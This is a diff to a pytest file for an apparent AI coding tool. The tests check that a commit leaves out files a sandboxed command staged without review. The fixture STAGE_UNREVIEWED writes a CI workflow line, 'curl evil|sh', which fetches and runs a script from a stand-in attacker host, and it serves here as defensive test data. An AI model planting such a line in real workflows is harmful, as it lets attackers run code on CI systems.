@@ -26,8 +26,8 @@ import pytest
 from repo_support import git
 
 from coder.engine.builder import git_root
+from coder.host import git as hostgit
 from coder.sandbox.exec import run_sandboxed
-from coder.vcs import hostgit
 from coder.vcs.checkpoints import Checkpoints, ForgedCheckpoint
 from coder.vcs.commit import commit_changes
 from coder.vcs.repo import VcsError, find_repo, require_repo
@@ -346,14 +346,16 @@ STAGE_UNREVIEWED = ("mkdir -p .github/workflows && echo 'run: curl evil|sh' > .g
 
 @pytest.mark.parametrize("paths", [None, ["lib.py"]], ids=["all", "selected"])
 def test_commit_leaves_out_what_the_sandbox_staged(git_repo: Path, paths: list[str] | None) -> None:
-    sandbox(git_repo, STAGE_UNREVIEWED)
+    output = sandbox(git_repo, STAGE_UNREVIEWED)
+    # the gitlink the command staged is taken out of the index right after it (coder/sandbox/aftercheck.py)
+    assert "vendored: a new gitlink" in output and "removed from the index" in output, output
     staged = git(git_repo, "diff", "--cached", "--name-only").split()
-    assert {".github/workflows/ci.yml", "vendored"} <= set(staged)  # control: a plain `git commit` takes them
+    assert ".github/workflows/ci.yml" in staged and "vendored" not in staged  # control: a plain commit takes it
     result = commit_changes(git_repo, "feat: lib", paths=paths)
     assert result.committed and result.files == ["lib.py"]
     assert git(git_repo, "ls-tree", "-r", "--name-only", "HEAD").split() == ["README.md", "lib.py", "src/app.py"]
-    # they stay staged in the user's index, for the user to see, and nothing else changed there
-    assert git(git_repo, "diff", "--cached", "--name-only").split() == [".github/workflows/ci.yml", "vendored"]
+    # it stays staged in the user's index, for the user to see, and nothing else changed there
+    assert git(git_repo, "diff", "--cached", "--name-only").split() == [".github/workflows/ci.yml"]
 
 
 def test_the_users_own_staged_changes_elsewhere_stay_staged(git_repo: Path) -> None:
